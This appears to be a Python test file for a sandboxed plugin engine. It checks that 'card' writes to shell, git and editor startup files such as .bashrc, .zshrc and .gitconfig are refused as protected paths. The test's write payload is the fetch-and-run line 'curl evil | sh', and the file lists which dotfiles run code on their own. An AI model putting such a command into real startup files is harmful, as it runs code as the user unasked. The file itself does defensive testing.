"""The files a shell, git or an editor runs by themselves once they are in the home
folder — as they are when the workspace is a dotfiles folder linked into it — are
protected from card writes.

Rule (SPEC §8.3): ``fs.write`` refuses "files that run on their own" (``.envrc``,
``.husky/``, …) "and similar", and a workspace that is the home folder is unsafe. A
dotfiles folder is not the home folder, but its ``.bashrc`` is the one every new shell
runs (``~/.bashrc`` links to it, or an installer copies it there), and its
``.gitconfig``'s ``core.hooksPath``, ``core.fsmonitor`` or aliases run commands in every
repository: a card that writes one runs code as the person the next time a terminal
opens. Each entry here runs, or says what runs, with no one asking for that file:
``.bashrc``, ``.bash_profile``, ``.bash_login``, ``.bash_logout``, ``.profile``,
``.zshrc``, ``.zshenv``, ``.zprofile``, ``.zlogin``, ``.zlogout``, ``.gitconfig``,
``.vimrc``, ``.tmux.conf``.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from engine import World
from engine.core.fsrules import is_protected
from engine.effects.files import ConfinedFiles

from ..conftest import manifest, offer_install

ENTRIES = [".bashrc", ".bash_profile", ".bash_login", ".bash_logout", ".profile", ".zshrc",
           ".zshenv", ".zprofile", ".zlogin", ".zlogout", ".gitconfig", ".vimrc",
           ".tmux.conf"]


def test_each_is_a_protected_name_and_its_neighbours_are_not() -> None:
    """Each, at the top, nested and in another case, is protected; names beside them are not."""
    missed = [e for e in ENTRIES for parts in ([e], ["home", e], [e.upper()])
              if not is_protected(parts)]
    assert missed == []
    for plain in (["bashrc"], ["profile"], ["gitconfig.md"], ["zshrc.example"]):
        assert not is_protected(plain), plain


async def test_a_card_cannot_write_a_dotfiles_folders_startup_files(make_engine: Any,
                                                                    tmp_path: Path) -> None:
    """In a dotfiles folder, fs.writeText of each is protected-path and changes nothing."""
    ws = tmp_path / "dotfiles"
    ws.mkdir()
    for entry in ENTRIES:
        (ws / entry).write_text("# the person's\n")
    engine = make_engine(world=World(net=None, fs=ConfinedFiles(
        data_dir=tmp_path / "data", trash=tmp_path / "trash")))
    await engine.create_workspace("w1", ws)
    await offer_install(engine, manifest("acme.fs", {"fs.write": {}}))
    await engine.add_node({"id": "c1", "type": "card", "package": "acme.fs"}, workspace="w1")
    answered = {}
    for entry in ENTRIES:
        d = await engine.call("c1", "fs.writeText", None, {"path": entry,
                                                            "text": "curl evil | sh\n"})
        answered[entry] = (d.code, d.reason)
    assert answered == {e: ("SCOPE_REFUSED", "protected-path") for e in ENTRIES}
    assert all((ws / e).read_text() == "# the person's\n" for e in ENTRIES)
